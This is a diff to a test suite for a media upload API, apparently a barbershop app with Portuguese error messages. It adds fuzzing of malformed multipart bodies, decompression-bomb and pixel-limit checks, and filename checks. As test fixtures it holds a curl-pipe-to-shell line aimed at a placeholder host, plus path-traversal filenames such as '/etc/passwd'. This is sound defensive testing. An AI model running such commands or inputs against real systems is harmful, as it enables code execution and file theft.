@@ -5,6 +5,8 @@
  */
 import { execFile } from 'node:child_process'
 import { once } from 'node:events'
+import { createServer, request as httpRequest, type IncomingMessage } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { createWriteStream, existsSync } from 'node:fs'
 import { mkdtemp, readdir, readFile, rm, stat } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
@@ -13,11 +15,25 @@ import { finished } from 'node:stream/promises'
 import { promisify } from 'node:util'
 import { setFlagsFromString } from 'node:v8'
 import { runInNewContext } from 'node:vm'
+import fc from 'fast-check'
 import sharp from 'sharp'
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
 import { genericMessages, mediaMessages } from '../../domain/messages'
 import type { Media } from '../../payload-types'
-import { hasGpsTag, mp4, mp4Head, noisyPng, phoneJpeg, pngWithGps, webm } from '../fixtures/media'
+import {
+  animatedWebpDeclaring,
+  flatPng,
+  hasGpsTag,
+  IMAGE_FORMATS,
+  imageDeclaring,
+  LARGEST_DECLARED_SIDE,
+  mp4,
+  mp4Head,
+  noisyPng,
+  phoneJpeg,
+  pngWithGps,
+  webm,
+} from '../fixtures/media'
 import { startTestApp, type TestApp } from '../helpers/app'
 import { ApiClient, errorMessage } from '../helpers/client'
 import { createAccount, createBarber, createShop, type Account, type BarberAccount, type ShopAccount } from '../helpers/seed'
@@ -33,6 +49,53 @@ function uploadForm({ bytes, name, type = 'application/octet-stream', payload = 
 
 function upload(as: ApiClient, file: Upload) {
   return as.request<{ doc: Media }>('POST', `/api/media${file.query ?? ''}`, { body: uploadForm(file) })
+}
+
+const BOUNDARY = 'navalha-limite'
+type Part = { name: string; filename?: string; content: Uint8Array | string }
+
+/** A multipart body written by hand, so it can be wrong in every way a client can get it wrong. */
+function multipart(parts: Part[], { close = true } = {}): Buffer {
+  const chunks = parts.flatMap(({ name, filename, content }) => [
+    Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"`),
+    Buffer.from(filename === undefined ? '\r\n\r\n' : `; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`),
+    Buffer.from(content),
+    Buffer.from('\r\n'),
+  ])
+  if (close) chunks.push(Buffer.from(`--${BOUNDARY}--\r\n`))
+  return Buffer.concat(chunks)
+}
+
+function rawUpload(as: ApiClient, body: Uint8Array, contentType = `multipart/form-data; boundary=${BOUNDARY}`) {
+  return as.request('POST', '/api/media', { body: new Uint8Array(body), headers: { 'content-type': contentType } })
+}
+
+/** Every answer an upload may get: ours, in Portuguese (domain/messages.ts), with the default limits. */
+const texts = (messages: object) => Object.values(messages).filter((message) => typeof message === 'string') as string[]
+const UPLOAD_ANSWERS = new Set<string>([
+  ...texts(mediaMessages),
+  mediaMessages.imageTooLarge(10),
+  mediaMessages.videoTooLarge(100),
+  mediaMessages.fileTooLarge(100),
+  mediaMessages.videoTooLong(180),
+  mediaMessages.imageTooManyPixels(52),
+  mediaMessages.uploadStalled(60),
+  ...texts(genericMessages),
+])
+
+/** Uncaught exceptions while `work` runs: each one would have ended a production server. */
+async function uncaughtDuring(work: () => Promise<void>): Promise<unknown[]> {
+  const crashes: unknown[] = []
+  const record = (error: unknown) => crashes.push(error)
+  process.on('uncaughtException', record)
+  try {
+    await work()
+    // busboy's late errors surface a few ticks after the answer.
+    await new Promise((resolve) => setTimeout(resolve, 100))
+  } finally {
+    process.off('uncaughtException', record)
+  }
+  return crashes
 }
 
 /** Forces a full garbage collection, so only memory still in use is measured. */
@@ -65,7 +128,8 @@ async function uploadFromAnotherProcess(as: ApiClient, file: string, payload: Re
 
 const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(512)])
 const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://exemplo.invalid/x | sh\n')
-const STORED_NAME = /^\d{13}\.(webp|mp4|mov|webm)$/
+/** Spec §7's `<timestamp>.<extension>`, with a random part that keeps uploads of one millisecond apart. */
+const STORED_NAME = /^\d{13}-[0-9a-f]{12}\.(webp|mp4|mov|webm)$/
 
 async function filesUnder(dir: string): Promise<string[]> {
   if (!existsSync(dir)) return []
@@ -172,7 +236,7 @@ describe('with the default limits', () => {
       const viaPayload = await fetch(`${app.url}/api/media/file/${doc.filename}?prefix=${encodeURIComponent(doc.prefix!)}`, { redirect: 'manual' })
       expect(viaPayload.status).toBe(302)
       expect(viaPayload.headers.get('location')).toBe(doc.url)
-      expect((await fetch(`${app.url}/media/${shop.user.id}/logos/0000000000000.webp`)).status).toBe(404)
+      expect((await fetch(`${app.url}/media/${shop.user.id}/logos/0000000000000-000000000000.webp`)).status).toBe(404)
       expect((await fetch(`${app.url}/media/%E0%A4%A/x.webp`)).status).toBe(404)
 
       // Dropped from the profile: private again.
@@ -236,8 +300,178 @@ describe('with the default limits', () => {
       }
       const withoutFile = await client.otherBarber.post('/api/media', { folder: 'photos' })
       expect(withoutFile.status).toBe(400)
-      expect(errorMessage(withoutFile.body)).toBe('Nenhum arquivo foi carregado.')
+      expect(errorMessage(withoutFile.body)).toBe(mediaMessages.fileMissing)
       expect(await tempFiles()).toEqual([])
+    })
+
+    it('answers a body Payload cannot take apart in Portuguese with a 4xx, and keeps running', async () => {
+      const png = await pngWithGps()
+      const payload = { name: '_payload', content: JSON.stringify({ folder: 'photos' }) }
+      const photo = { name: 'file', filename: 'foto.png', content: png }
+      const fields = Array.from({ length: 21 }, (_, index) => ({ name: `campo${index}`, content: 'x' }))
+      const stored = (await upload(client.barber, { bytes: png, name: 'foto.png', payload: { folder: 'photos' } })).body.doc
+      const reference = JSON.stringify({ filename: stored.filename, clientUploadContext: { prefix: stored.prefix }, mimeType: 'image/webp', size: 10 })
+      const cases: [string, Buffer, string | undefined, number, string][] = [
+        ['a _payload that is not JSON', multipart([{ name: '_payload', content: '{pasta: fotos' }, photo]), undefined, 400, mediaMessages.malformedUpload],
+        ['a body cut inside the file', multipart([payload, photo], { close: false }).subarray(0, -100), undefined, 400, mediaMessages.malformedUpload],
+        ['a file name with a control character', multipart([payload, { ...photo, filename: 'foto\u0001.png' }]), undefined, 400, mediaMessages.malformedUpload],
+        ['a multipart type without a boundary', multipart([payload, photo]), 'multipart/form-data', 400, mediaMessages.malformedUpload],
+        ['an empty boundary', multipart([payload, photo]), 'multipart/form-data; boundary=', 400, mediaMessages.malformedUpload],
+        ['four files', multipart([payload, photo, photo, photo, photo]), undefined, 413, mediaMessages.tooManyParts],
+        ['more than 20 fields', multipart([payload, ...fields, photo]), undefined, 413, mediaMessages.tooManyParts],
+        ['a field over 1 MB', multipart([payload, { name: 'alt', content: 'a'.repeat(1024 * 1024 + 1) }, photo]), undefined, 413, mediaMessages.tooManyParts],
+        // These two used to end the process: a file part after Payload had given up on the body.
+        [
+          'too many fields, then a file cut short',
+          multipart([...fields, photo], { close: false }).subarray(0, -100),
+          undefined,
+          413,
+          mediaMessages.tooManyParts,
+        ],
+        [
+          'a malformed part, then a file',
+          multipart([{ ...photo, filename: '\u0001' }, photo], { close: false }),
+          undefined,
+          400,
+          mediaMessages.malformedUpload,
+        ],
+        [
+          'a file field naming a stored file instead of carrying one',
+          multipart([payload, { name: 'file', content: reference }]),
+          undefined,
+          400,
+          mediaMessages.fileMissing,
+        ],
+        ['a file field holding text', multipart([payload, { name: 'file', content: 'foto.png' }]), undefined, 400, mediaMessages.fileMissing],
+        [
+          'a filename climbing out of its folder',
+          multipart([{ name: '_payload', content: JSON.stringify({ folder: 'photos', filename: '../x.webp' }) }, photo]),
+          undefined,
+          400,
+          mediaMessages.filenameInvalid,
+        ],
+        [
+          'a size named by an absolute path',
+          multipart([{ name: '_payload', content: JSON.stringify({ folder: 'photos', sizes: { card: { filename: '/etc/passwd' } } }) }, photo]),
+          undefined,
+          400,
+          mediaMessages.filenameInvalid,
+        ],
+      ]
+      const crashes = await uncaughtDuring(async () => {
+        for (const [name, body, contentType, status, message] of cases) {
+          const response = await rawUpload(client.otherBarber, body, contentType)
+          expect([name, response.status, errorMessage(response.body)]).toEqual([name, status, message])
+        }
+      })
+      expect(crashes).toEqual([])
+      expect((await client.anonymous.get('/api/health')).status).toBe(200)
+      expect(await filesUnder(path.join(mediaDir(), String(otherBarber.user.id)))).toEqual([])
+      await vi.waitFor(async () => expect(await tempFiles()).toEqual([]))
+    })
+
+    it('answers any multipart body, well formed or not, with a 2xx or one of its own messages, and keeps running', async () => {
+      const png = await pngWithGps()
+      const content = fc.oneof(
+        fc.constant<Uint8Array | string>(png),
+        fc.constantFrom(JSON.stringify({ folder: 'photos' }), JSON.stringify({ folder: 'videos' }), '{'),
+        fc.json(),
+        fc
+          .record({ folder: fc.constantFrom('photos', 'logos', 'x'), alt: fc.string(), filename: fc.string(), user: fc.jsonValue() })
+          .map((data) => JSON.stringify(data)),
+        fc.string(),
+        fc.uint8Array({ maxLength: 64 }),
+      )
+      const part = fc.record({
+        name: fc.oneof({ weight: 9, arbitrary: fc.constantFrom('_payload', 'file', 'alt', 'folder') }, { weight: 1, arbitrary: fc.string({ maxLength: 8 }) }),
+        filename: fc.oneof(
+          { weight: 4, arbitrary: fc.constant(undefined) },
+          { weight: 4, arbitrary: fc.constantFrom('foto.png', '../foto.png', '', 'minha foto.jpg') },
+          { weight: 1, arbitrary: fc.string({ maxLength: 8 }) },
+        ),
+        content,
+      })
+      const body = fc
+        .record({
+          parts: fc.array(part, { maxLength: 4 }),
+          close: fc.oneof({ weight: 4, arbitrary: fc.constant(true) }, { weight: 1, arbitrary: fc.constant(false) }),
+          cutAt: fc.oneof({ weight: 3, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: fc.nat() }),
+          contentType: fc.oneof(
+            { weight: 8, arbitrary: fc.constant(`multipart/form-data; boundary=${BOUNDARY}`) },
+            { weight: 1, arbitrary: fc.constantFrom('multipart/form-data', 'multipart/form-data; boundary=', 'multipart/form-data; boundary=outra') },
+          ),
+        })
+        .map(({ parts, close, cutAt, contentType }) => {
+          const bytes = multipart(parts, { close })
+          return { bytes: cutAt === undefined || !bytes.length ? bytes : bytes.subarray(0, cutAt % bytes.length), contentType }
+        })
+      const crashes = await uncaughtDuring(() =>
+        fc.assert(
+          fc.asyncProperty(body, async ({ bytes, contentType }) => {
+            const response = await rawUpload(client.otherBarber, bytes, contentType)
+            if (response.status === 201) return
+            expect(response.status, response.text).toBeGreaterThanOrEqual(400)
+            expect(response.status, response.text).toBeLessThan(500)
+            expect(UPLOAD_ANSWERS, response.text).toContain(errorMessage(response.body))
+          }),
+          { numRuns: 200 },
+        ),
+      )
+      expect(crashes).toEqual([])
+      expect((await client.anonymous.get('/api/health')).status).toBe(200)
+      await vi.waitFor(async () => expect(await tempFiles()).toEqual([]))
+    })
+
+    it('refuses a create that names a remote file instead of sending one, and fetches nothing', async () => {
+      let fetched = 0
+      const remote = createServer(async (_request, response) => {
+        fetched++
+        response.setHeader('content-type', 'image/png')
+        response.end(await flatPng(9000, 6000))
+      })
+      await new Promise<void>((resolve) => remote.listen(0, '127.0.0.1', resolve))
+      try {
+        const url = `http://localhost:${(remote.address() as AddressInfo).port}/foto.png`
+        for (const as of [client.barber, client.admin]) {
+          const response = await as.post('/api/media', { folder: 'photos', filename: 'foto.png', url, user: barber.user.id })
+          expect(response.status, response.text).toBe(400)
+          expect(errorMessage(response.body)).toBe(mediaMessages.fileMissing)
+        }
+        expect(fetched).toBe(0)
+      } finally {
+        remote.close()
+      }
+    })
+
+    it('refuses an MP4 whose boxes do not add up (cut short while it was written)', async () => {
+      const response = await upload(client.otherBarber, { bytes: mp4({ seconds: 5 }).subarray(0, -100), name: 'video.mp4', payload: { folder: 'videos' } })
+      expect(response.status).toBe(400)
+      expect(errorMessage(response.body)).toBe(mediaMessages.videoUnreadable)
+      expect(await tempFiles()).toEqual([])
+    })
+
+    it('drops a file that stops arriving for a minute, with 408', { timeout: 120_000 }, async () => {
+      const head = multipart([{ name: '_payload', content: JSON.stringify({ folder: 'videos' }) }], { close: false })
+      const fileHead = Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="video.mp4"\r\n\r\n`)
+      const request = httpRequest(`${app.url}/api/media`, {
+        method: 'POST',
+        headers: {
+          'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
+          'transfer-encoding': 'chunked',
+          accept: 'application/json',
+          origin: app.url,
+          cookie: `payload-token=${client.otherBarber.cookie('payload-token')}`,
+        },
+      })
+      const answered = once(request, 'response') as Promise<[IncomingMessage]>
+      // Half of a video, then silence: Payload gives up after 60 s without a byte.
+      request.write(Buffer.concat([head, fileHead, mp4({ seconds: 5 }).subarray(0, 512)]))
+      const [response] = await answered
+      const body = JSON.parse(Buffer.concat(await response.toArray()).toString())
+      request.destroy()
+      expect(response.statusCode).toBe(408)
+      expect(errorMessage(body)).toBe(mediaMessages.uploadStalled(60))
+      await vi.waitFor(async () => expect(await tempFiles()).toEqual([]))
     })
 
     it('tells anyone the limits it holds uploads to (GET /api/media-limits)', async () => {
@@ -253,6 +487,70 @@ describe('with the default limits', () => {
     })
   })
 
+  describe('pixels', () => {
+    const MAX_PIXELS = 52_000_000
+    const tooManyPixels = mediaMessages.imageTooManyPixels(52)
+    const sendImage = (bytes: Buffer, format: string) =>
+      upload(client.otherBarber, { bytes, name: `foto.${format}`, type: `image/${format}`, payload: { folder: 'photos' } })
+
+    it('answers by the pixels a header declares, on both sides of the limit and far past it, before decoding anything', async () => {
+      // A few pixels either side of 52 MP, in every format: the 16 × 16 pixels behind the header cannot fill it.
+      const nearTheLimit = fc
+        .record({ format: fc.constantFrom(...IMAGE_FORMATS), width: fc.integer({ min: 3200, max: 16_383 }), offset: fc.integer({ min: -2, max: 2 }) })
+        .map(({ format, width, offset }) => ({ format, width, height: Math.floor(MAX_PIXELS / width) + offset }))
+      // Decompression bombs: any size past the limit that the format can declare, in a few hundred bytes.
+      const bombs = fc
+        .constantFrom(...IMAGE_FORMATS)
+        .chain((format) => {
+          const side = fc.integer({ min: 1, max: LARGEST_DECLARED_SIDE[format] })
+          return fc.record({ format: fc.constant(format), width: side, height: side })
+        })
+        .filter(({ width, height }) => width * height > MAX_PIXELS)
+      await fc.assert(
+        fc.asyncProperty(fc.oneof(nearTheLimit, bombs), async ({ format, width, height }) => {
+          const bytes = await imageDeclaring(format, width, height)
+          expect(bytes.length).toBeLessThan(1024)
+          const response = await sendImage(bytes, format)
+          expect(response.status, response.text).toBe(400)
+          expect(errorMessage(response.body)).toBe(width * height > MAX_PIXELS ? tooManyPixels : mediaMessages.imageUnreadable)
+        }),
+        { numRuns: 40 },
+      )
+      expect(await filesUnder(path.join(mediaDir(), String(otherBarber.user.id)))).toEqual([])
+      expect(await tempFiles()).toEqual([])
+      expect((await client.anonymous.get('/api/health')).status).toBe(200)
+    })
+
+    it('counts every frame of an animated WebP', async () => {
+      const response = await sendImage(await animatedWebpDeclaring(4000, 4), 'webp')
+      expect(response.status).toBe(400)
+      expect(errorMessage(response.body)).toBe(tooManyPixels)
+      const small = await upload(client.barber, { bytes: await animatedWebpDeclaring(16, 4), name: 'gif.webp', payload: { folder: 'photos' } })
+      expect(small.status, small.text).toBe(201)
+    })
+
+    it('takes a real 50 MP phone photo and refuses one just past 52 MP', async () => {
+      const fifty = await upload(client.barber, { bytes: await flatPng(8192, 6144), name: 'foto.png', payload: { folder: 'photos' } })
+      expect(fifty.status, fifty.text).toBe(201)
+      expect(fifty.body.doc).toMatchObject({ width: 2560, height: 1920, mimeType: 'image/webp' })
+      const past = await sendImage(await flatPng(8192, 6400), 'png')
+      expect(past.status).toBe(400)
+      expect(errorMessage(past.body)).toBe(tooManyPixels)
+    })
+
+    it('decodes one image at a time, however many uploads arrive together', async () => {
+      const photo = await flatPng(7000, 7000)
+      // libvips's own count of images it is working on, read while six 49 MP photos go through.
+      let mostAtOnce = 0
+      const sampler = setInterval(() => (mostAtOnce = Math.max(mostAtOnce, sharp.counters().process)), 2)
+      const responses = await Promise.all(
+        Array.from({ length: 6 }, () => upload(client.shop, { bytes: photo, name: 'fachada.png', payload: { folder: 'shop-photos' } })),
+      ).finally(() => clearInterval(sampler))
+      expect(responses.map((response) => response.status)).toEqual(Array(6).fill(201))
+      expect(mostAtOnce).toBe(1)
+    })
+  })
+
   describe('videos', () => {
     it.each([
       ['an MP4', mp4({ seconds: 12 }), 'video/mp4', 'mp4', 12],
@@ -264,7 +562,8 @@ describe('with the default limits', () => {
       expect(response.status, response.text).toBe(201)
       const doc = response.body.doc
       expect(doc).toMatchObject({ mimeType, duration, prefix: `${barber.user.id}/videos`, filesize: bytes.length })
-      expect(doc.filename).toMatch(new RegExp(`^\\d{13}\\.${extension}$`))
+      expect(doc.filename).toMatch(STORED_NAME)
+      expect(doc.filename!.endsWith(`.${extension}`)).toBe(true)
       expect((await readFile(stored(doc))).equals(bytes)).toBe(true)
       expect(await tempFiles()).toEqual([])
     })
@@ -360,6 +659,23 @@ describe('with the default limits', () => {
         payload: { folder: 'photos', filename: '../../../etc/passwd' },
       })
       expect(traversal.status).toBe(400)
+      expect(errorMessage(traversal.body)).toBe(mediaMessages.filenameInvalid)
+    })
+
+    it('names every file apart, even 20 sent by one user at the same moment', async () => {
+      const bytes = await pngWithGps()
+      const responses = await Promise.all(
+        Array.from({ length: 20 }, () => upload(client.shop, { bytes, name: 'foto.png', type: 'image/png', payload: { folder: 'shop-photos' } })),
+      )
+      expect(responses.map((response) => response.status)).toEqual(Array(20).fill(201))
+      const docs = responses.map((response) => response.body.doc)
+      // A small photo's `card` and `full` sizes are the same file; no file is shared between uploads.
+      const names = docs.flatMap((doc) => [...new Set([doc.filename!, ...sizeFiles(doc)])])
+      expect(new Set(names).size).toBe(names.length)
+      for (const doc of docs) {
+        expect(doc.filename).toMatch(STORED_NAME)
+        expect(existsSync(stored(doc))).toBe(true)
+      }
     })
 
     it('lets an admin upload for someone else, into that person’s folder', async () => {
